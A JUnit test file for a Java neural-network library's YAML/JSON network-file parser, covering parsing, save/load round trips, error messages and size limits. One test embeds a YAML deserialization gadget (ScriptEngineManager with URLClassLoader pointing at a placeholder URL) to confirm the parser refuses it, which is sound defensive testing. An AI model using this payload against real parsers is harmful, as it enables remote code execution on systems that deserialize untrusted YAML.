package gradlab.nn;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import gradlab.io.InputError;
import gradlab.io.TextFiles;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class NetworkFileTest {
    static final String XOR = """
            name: xor-by-hand
            inputs: 2
            init: glorot-uniform
            seed: 7
            layers:
              - units: 2
                activation: step
                weights: [[1, 1], [-1, -1]]
                biases: [-0.5, 1.5]
              - units: 1
                activation: step
                weights: [[1, 1]]
                biases: [-1.5]
            loss: quadratic
            """;

    @Test
    void readsTheSpecExample() throws InputError {
        Network net = NetworkFile.parse("xor.yaml", XOR);
        assertEquals("xor-by-hand", net.name());
        assertEquals(2, net.depth());
        assertEquals(Activation.STEP, net.layer(0).activation());
        assertArrayEquals(new double[] {1, 1, -1, -1}, net.layer(0).weights().value().data);
        assertArrayEquals(new double[] {-0.5, 1.5}, net.layer(0).biases().value().data);
        assertEquals(Loss.QUADRATIC, net.loss());
        assertEquals(7L, net.seed());
    }

    @Test
    void jsonIsAcceptedToo() throws InputError {
        Network net = NetworkFile.parse("n.json", """
                {"inputs": ["x1", "x2", "x1^2"], "layers": [{"units": 1, "activation": "sigmoid", "weights": [[0.5, -0.5, 2]], "biases": [0.25]}]}
                """);
        assertEquals(List.of("x1", "x2", "x1^2"), net.features().names());
        assertEquals(2, net.features().rawCount());
    }

    @Test
    void layersWithoutWeightsAreInitialisedFromTheSeed() throws InputError {
        String text = "inputs: 2\nseed: 11\nlayers:\n  - units: 4\n    activation: tanh\n";
        Network a = NetworkFile.parse("a", text), b = NetworkFile.parse("b", text);
        assertArrayEquals(a.layer(0).weights().value().data, b.layer(0).weights().value().data);
    }

    @Test
    void savingAndLoadingGivesBackExactlyTheSameNetwork(@TempDir Path dir) throws Exception {
        Network net = Network.create(Features.named(List.of("x1", "x2", "sin(x1)")), new int[] {3, 1},
                new Activation[] {Activation.LEAKY_RELU, Activation.SIGMOID}, Init.HE, 9);
        net.setName("round: \"trip\"");
        Path file = dir.resolve("net.yaml");
        NetworkFile.save(net, file);
        Network back = NetworkFile.load(file);
        assertEquals(net.name(), back.name());
        assertEquals(net.features().names(), back.features().names());
        for (int i = 0; i < net.parameters().size(); i++) {
            assertArrayEquals(net.parameters().get(i).value().data, back.parameters().get(i).value().data, 0);
        }
        assertEquals(List.of("net.yaml"), Files.list(dir).map(p -> p.getFileName().toString()).toList(), "no temp file left behind");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            YAML syntax error         | 'inputs: 2\nlayers: [\n  {units: 1, activation: step\n'      | 4 | 1 | YAML syntax
            unknown key               | 'inputs: 2\nlayrs: []\n'                                     | 2 | 1 | unknown key 'layrs'
            unknown key in a layer    | 'inputs: 2\nlayers:\n  - units: 1\n    activaton: step\n'   | 4 | 5 | unknown key 'activaton'
            too few weight rows       | 'inputs: 2\nlayers:\n  - units: 2\n    activation: step\n    weights: [[1, 1]]\n' | 5 | 14 | expected 2 rows
            a row of the wrong length | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    weights: [[1, 1, 1]]\n' | 5 | 15 | expected 2 values
            wrong bias count          | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    biases: [1, 2]\n' | 5 | 13 | expected 1 values
            a non-number              | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    weights: [[1, abc]]\n' | 5 | 19 | expected a number, found 'abc'
            NaN                       | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    weights: [[.nan, 1]]\n' | 5 | 16 | '.nan' is not a finite number
            infinity                  | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    biases: [-.inf]\n' | 5 | 14 | '-.inf' is not a finite number
            a number too large        | 'inputs: 2\nlayers:\n  - units: 1\n    activation: step\n    biases: [1e999]\n' | 5 | 14 | too large
            unknown activation        | 'inputs: 2\nlayers:\n  - units: 1\n    activation: swish\n' | 4 | 17 | unknown activation 'swish'
            missing layers            | 'inputs: 2\n' | 1 | 1 | missing 'layers'
            zero units                | 'inputs: 2\nlayers:\n  - units: 0\n    activation: step\n' | 3 | 12 | between 1 and
            unknown feature           | 'inputs: [x1, tan(x1)]\nlayers:\n  - units: 1\n    activation: step\n' | 1 | 14 | unknown input feature
            """)
    void badFilesSayFileLineColumnAndWhatIsWrong(String what, String text, int line, int column, String problem) {
        InputError e = assertThrows(InputError.class, () -> NetworkFile.parse("bad.yaml", text.replace("\\n", "\n")));
        String expectedPrefix = "bad.yaml:" + line + ":" + column + ": ";
        Assertions.assertTrue(e.getMessage().startsWith(expectedPrefix) && e.getMessage().contains(problem),
                what + ": expected '" + expectedPrefix + "…" + problem + "…', got '" + e.getMessage() + "'");
    }

    @Test
    void aMissingFileIsAnInputErrorToo(@TempDir Path dir) {
        InputError e = assertThrows(InputError.class, () -> NetworkFile.load(dir.resolve("missing.yaml")));
        assertEquals(dir.resolve("missing.yaml") + ":1:1: no such file", e.getMessage());
    }

    @Test
    void yamlTagsAreNeverConstructedIntoObjects() {
        String hostile = "inputs: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\nlayers: []\n";
        InputError e = assertThrows(InputError.class, () -> NetworkFile.parse("evil.yaml", hostile));
        assertEquals(1, e.line());
    }

    @Test
    void whatTheProgramSavesItReadsBack_evenALarge2x700x700x1Network(@TempDir Path dir) throws Exception {
        Network net = NetworkFile.parse("big.yaml", "inputs: 2\nseed: 1\nlayers:\n  - units: 700\n    activation: tanh\n"
                + "  - units: 700\n    activation: tanh\n  - units: 1\n    activation: sigmoid\n");
        net.set("layers.1.weights[3,5]", -0.123456789012345678);
        Path file = dir.resolve("big.yaml");
        NetworkFile.save(net, file);
        assertTrue(Files.size(file) > 8 * 1024 * 1024, "larger than snakeyaml's default limit: " + Files.size(file));
        Network back = NetworkFile.load(file);
        for (int l = 0; l < net.depth(); l++) {
            assertArrayEquals(net.layer(l).weights().value().data, back.layer(l).weights().value().data, "layer " + l);
        }
    }

    @Test
    void theLargestNetworkAllowedStillFitsTheLargestFileRead() {
        // every weight written as the longest double text, "-1.2345678901234567E-100, "
        long worstCase = (long) NetworkFile.MAX_PARAMETERS * "-1.2345678901234567E-100, ".length();
        assertTrue(worstCase < TextFiles.MAX_BYTES, worstCase + " bytes");
    }
}
